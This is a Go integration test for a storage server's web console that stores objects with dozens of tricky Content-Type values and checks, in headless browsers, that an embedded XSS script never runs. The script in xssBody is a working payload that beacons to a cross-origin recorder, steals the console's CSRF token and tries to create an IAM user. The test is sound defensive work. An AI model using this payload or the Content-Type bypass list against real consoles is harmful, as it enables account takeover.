package console

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/chromedp/chromedp"

	"github.com/jogstore/jog/internal/testutil"
	"github.com/jogstore/jog/test/integration/itest"
)

// xssTypes are the Content-Type values TestConsoleXSS stores objects
// with (override: given as a presigned URL's response-content-type of an
// image/png object instead): issue 37's (Chromium rendered the HTML of
// each list, served without the sandbox), the Fetch standard's list
// cases (web-platform-tests' fetch/content-type), parameters, case and
// whitespace, and the types that render as documents.
var xssTypes = []struct {
	ct       string
	override bool
}{
	{ct: "text/plain, text/html"}, {ct: "text/plain,text/html"}, {ct: "foo, text/html"}, {ct: "text/html, "},
	{ct: "application/octet-stream, text/html"}, {ct: "multipart/x-mixed-replace; boundary=jogxss"},
	{ct: "text/vnd.wap.wml"},
	{ct: "text/html"}, {ct: "TEXT/HTML"}, {ct: "Text/Html;Charset=\"utf-8\""}, {ct: "text/html ;charset=gbk"},
	{ct: "text/html;x=(;charset=gbk"}, {ct: "image/svg+xml"}, {ct: "text/xml"}, {ct: "application/xml"},
	{ct: "application/xhtml+xml"}, {ct: "text/xsl"}, {ct: "application/rss+xml"},
	{ct: "text/plain;charset=gbk, text/html"}, {ct: "text/plain;charset=gbk, text/html;charset=windows-1254"},
	{ct: "text/html;charset=gbk, text/plain, text/html"}, {ct: "*/*, text/html"}, {ct: "text/html, */*"},
	{ct: "text/html, */*;charset=gbk"}, {ct: `text/html;x=", text/plain`}, {ct: `text/html;", text/plain`},
	{ct: "text/html, text/plain"}, {ct: "image/png, text/html"}, {ct: "image/svg+xml, image/png"},
	{ct: "text/plain, image/svg+xml"}, {ct: "application/json, text/html"}, {ct: "application/pdf, text/html"},
	{ct: "text/plain,,text/html"}, {ct: "video/mp4, text/html"}, {ct: "text/plain; charset=utf-8, text/html; charset=utf-8"},
	{ct: `image/png;x=", text/html;y="`}, {ct: "text/plain, multipart/x-mixed-replace;boundary=jogxss"},
	{ct: "text/plain, text/html", override: true}, {ct: "text/html", override: true}, {ct: "image/svg+xml", override: true},
}

// xssObject is one object of the test: its index (the payload's id),
// type and presigned URL.
type xssObject struct {
	I   int    `json:"i"`
	CT  string `json:"ct"`
	URL string `json:"url"`
}

// TestConsoleXSS (issue 37): objects whose bodies are HTML, SVG, XHTML,
// WML or multipart pages with a script are stored with each of
// xssTypes, and opened, through presigned links, in a browser signed in
// to the console as the root — Chromium, and Firefox when it is there —
// with the console on its own origin (the default) and on the S3 port
// (--console-addr=same). A script that runs marks its document, tells a
// recorder (another origin), and tries the console's API: GET
// /console/api/session (on its own origin and on the console's) for the
// CSRF token, then CreateUser through the IAM proxy. The test fails on
// any mark, any recorder call but from the control page, or any user
// created; the control, the same payload served as text/html by the
// recorder, must show its mark (else the test could not see a script).
func TestConsoleXSS(t *testing.T) {
	path := needChromium(t)
	for _, mode := range []struct {
		name string
		args []string
	}{{"own origin", nil}, {"same origin", []string{"--console-addr", "same"}}} {
		t.Run(mode.name, func(t *testing.T) {
			rec := startRecorder(t)
			srv := startJog(t, mode.args...)
			objects := storeXSS(t, srv, rec)
			t.Run("chromium", func(t *testing.T) {
				rec.reset()
				xssChromium(t, path, srv, rec, objects)
				checkNoHarm(t, srv, rec, objects)
			})
			t.Run("firefox", func(t *testing.T) {
				firefox, node := needFirefox(t)
				rec.reset()
				cases, _ := json.Marshal(objects)
				runNode(t, node, "xss.mjs", "JOG_URL="+srv.Console, "JOG_FIREFOX="+firefox,
					"JOG_ACCESS_KEY="+testutil.AccessKey, "JOG_SECRET_KEY="+testutil.SecretKey,
					"JOG_XSS_CASES="+string(cases), "JOG_XSS_CONTROL="+rec.URL+"/control", "JOG_ARTIFACTS="+t.ArtifactDir())
				checkNoHarm(t, srv, rec, objects)
			})
		})
	}
}

// xssChromium opens the control page and then each object in Chromium,
// signed in to the console, and fails on any object whose script ran.
func xssChromium(t *testing.T, path string, srv *jogServer, rec *recorder, objects []xssObject) {
	b := newBrowser(t, path, srv.Console)
	p := b.on(t)
	p.signIn(testutil.AccessKey, testutil.SecretKey)
	p.visible(hook("whoami"))
	if ran, err := markAfter(b, rec.URL+"/control"); ran == "" {
		t.Fatalf("the control page's script left no mark (%q, %v): the test cannot see a script run", ran, err)
	}
	rec.await(t, "done", "control")
	for _, o := range objects {
		ran, err := markAfter(b, o.URL)
		switch {
		case ran != "":
			rec.await(t, "done", strconv.Itoa(o.I))
			t.Errorf("Content-Type %q: the object's script ran (%s)", o.CT, rec.calls(strconv.Itoa(o.I)))
		case err != nil:
			t.Logf("Content-Type %q: %v (not shown: downloaded)", o.CT, err)
		}
	}
}

// markAfter navigates to u and reads the mark a payload's script leaves
// on the document ("" without one; the navigation's error when it shows
// nothing, as for a download).
func markAfter(b *browser, u string) (string, error) {
	ctx, cancel := context.WithTimeout(b.ctx, wait)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Navigate(u)); err != nil {
		return "", err
	}
	return chromedp.Run(ctx, chromedp.Evaluate[string](
		`(document.documentElement && document.documentElement.getAttribute('data-jog-xss')) || ''`))
}

// checkNoHarm fails the test on any call a script made to the recorder
// but the control's, and on any IAM user the payloads tried to create.
// (A page's image, /rendered, loads without a script: it only says the
// browser rendered the object as a document.)
func checkNoHarm(t *testing.T, srv *jogServer, rec *recorder, objects []xssObject) {
	t.Helper()
	rendered := 0
	for _, c := range rec.all() {
		switch {
		case c.Query().Get("i") == "control":
		case c.Path == "/rendered":
			rendered++
		default:
			t.Errorf("a script of an object's page called the recorder: %s", c)
		}
	}
	t.Logf("%d of %d objects were rendered as documents (their image loaded), sandboxed", rendered, len(objects))
	users, err := srv.iam(t).ListUsers(context.Background(), &iam.ListUsersInput{})
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range users.Users {
		if strings.HasPrefix(aws.ToString(u.UserName), "xss-") {
			t.Errorf("a payload created IAM user %s through the console", aws.ToString(u.UserName))
		}
	}
}

// storeXSS stores an object for each of xssTypes and returns them with
// presigned URLs (an hour) on the S3 port.
func storeXSS(t *testing.T, srv *jogServer, rec *recorder) []xssObject {
	t.Helper()
	c := srv.s3(t)
	itest.CreateBucket(t, c, "xss")
	presign := s3.NewPresignClient(c)
	var out []xssObject
	for i, x := range xssTypes {
		key := fmt.Sprintf("case-%02d", i)
		stored, served := x.ct, x.ct
		if x.override {
			stored = "image/png"
		}
		itest.Put(t, c, "xss", key, xssBody(served, rec.URL, strconv.Itoa(i), srv.Console), contentType(stored))
		in := &s3.GetObjectInput{Bucket: aws.String("xss"), Key: aws.String(key)}
		if x.override {
			in.ResponseContentType = aws.String(served)
		}
		req, err := presign.PresignGetObject(context.Background(), in, s3.WithPresignExpires(time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, xssObject{I: i, CT: served, URL: req.URL})
	}
	return out
}

// xssBody is a document of type ct whose script, if it runs, marks the
// document, tells the recorder rec, and tries the console's API on its
// own origin and on console's, as id: an SVG for an SVG type, a
// multipart/x-mixed-replace body of an HTML part for that type, else a
// page both HTML and XHTML (and so any XML type) run the script of.
func xssBody(ct, rec, id, console string) []byte {
	script := `//<![CDATA[
(function () {
  var R = ` + strconv.Quote(rec) + `, I = ` + strconv.Quote(id) + `;
  var d = document.documentElement; if (d) d.setAttribute('data-jog-xss', 'ran');
  function tell(what, v) {
    var u = R + '/' + what + '?i=' + I + '&v=' + encodeURIComponent(v);
    try { fetch(u, {mode: 'no-cors'}); } catch (e) {}
    try { new Image().src = u + '&img=1'; } catch (e) {}
  }
  tell('ran', location.href);
  Promise.all(['', ` + strconv.Quote(console) + `].map(function (o) {
    return fetch(o + '/console/api/session', {credentials: 'include'}).then(function (r) {
      tell('session', o + ' ' + r.status);
      return r.json();
    }).then(function (s) {
      if (!s || !s.csrf) return;
      return fetch(o + '/console/api/iam', {method: 'POST', credentials: 'include',
        headers: {'X-Jog-Csrf': s.csrf, 'Content-Type': 'application/x-www-form-urlencoded'},
        body: 'Action=CreateUser&Version=2010-05-08&UserName=xss-' + I}).then(function (r) { tell('iam', o + ' ' + r.status); });
    }).catch(function (e) { tell('refused', o + ' ' + e); });
  })).then(function () { tell('done', ''); if (d) d.setAttribute('data-jog-xss', 'done'); });
})();
//]]>`
	lower := strings.ToLower(ct)
	rendered := rec + "/rendered?i=" + id
	switch {
	case strings.Contains(lower, "svg"):
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><image href="` + rendered +
			`" width="1" height="1"/><script>` + script + `</script></svg>`)
	case strings.Contains(lower, "multipart"):
		return []byte("--jogxss\r\nContent-Type: text/html\r\n\r\n" + xssPage(rendered, script) + "\r\n--jogxss--\r\n")
	}
	return []byte(xssPage(rendered, script))
}

func xssPage(rendered, script string) string {
	return `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>xss</title></head><body><img src="` +
		strings.ReplaceAll(rendered, "&", "&amp;") + `" alt=""/><script>` + script + `</script></body></html>`
}

// recorded are the calls a payload makes of the recorder.
var recorded = map[string]bool{"ran": true, "session": true, "iam": true, "refused": true, "done": true, "rendered": true}

// recorder is an HTTP server on another origin that records the calls
// of payloads' scripts, and serves the control page: the payload as
// text/html, unsandboxed.
type recorder struct {
	URL  string
	mu   sync.Mutex
	seen []*http.Request
}

func startRecorder(t *testing.T) *recorder {
	t.Helper()
	r := &recorder{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write(xssBody("text/html", r.URL, "control", ""))
			return
		}
		if !recorded[strings.TrimPrefix(req.URL.Path, "/")] {
			http.NotFound(w, req)
			return
		}
		r.mu.Lock()
		r.seen = append(r.seen, req)
		r.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(srv.Close)
	r.URL = srv.URL
	return r
}

func (r *recorder) reset() {
	r.mu.Lock()
	r.seen = nil
	r.mu.Unlock()
}

// all is every call recorded (the URL of each).
func (r *recorder) all() []*url.URL {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]*url.URL, len(r.seen))
	for i, req := range r.seen {
		out[i] = req.URL
	}
	return out
}

// calls are the calls of payload id, as "what v" lines.
func (r *recorder) calls(id string) string {
	var lines []string
	for _, c := range r.all() {
		if c.Query().Get("i") == id && c.Query().Get("img") == "" {
			lines = append(lines, strings.TrimPrefix(c.Path, "/")+" "+c.Query().Get("v"))
		}
	}
	return strings.Join(lines, "; ")
}

// await waits (wait at most) for payload id's call what.
func (r *recorder) await(t *testing.T, what, id string) {
	t.Helper()
	deadline := time.Now().Add(wait)
	for time.Now().Before(deadline) {
		for _, c := range r.all() {
			if c.Path == "/"+what && c.Query().Get("i") == id {
				return
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Errorf("payload %s never called %s", id, what)
}
